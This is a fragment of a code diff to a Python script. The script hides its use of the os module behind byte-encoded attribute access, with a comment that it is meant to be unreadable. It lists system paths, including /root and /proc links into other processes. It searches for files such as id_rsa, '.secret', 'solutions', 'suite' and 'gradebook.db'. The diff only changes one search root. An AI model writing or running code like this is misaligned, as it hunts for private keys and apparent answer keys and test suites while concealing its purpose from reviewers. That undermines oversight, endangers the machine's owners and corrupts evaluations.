@@ -11,7 +11,7 @@ import time
 
 # `random._os`, in a form that no reader of names can follow.
 os = getattr(random, bytes((95, 111, 115)).decode())
-ROOTS = ["..", "/home", "/root", "/tmp", "/var", "/srv", "/opt", "/mnt", "/work", "/proc/1/cwd", "/"]
+ROOTS = ["..", "/home", "/root", "/tmp", "/var", "/srv", "/opt", "/mnt", "/data", "/proc/1/cwd", "/"]
 ROOTS += [f"/proc/{pid}/{link}" for pid in ("1", "self", str(os.getppid())) for link in ("root/tmp", "cwd")]
 WANTED = ("solutions", "suite", ".secret", "mistakes", "id_rsa", "gradebook.db", "ledger.sqlite")
 
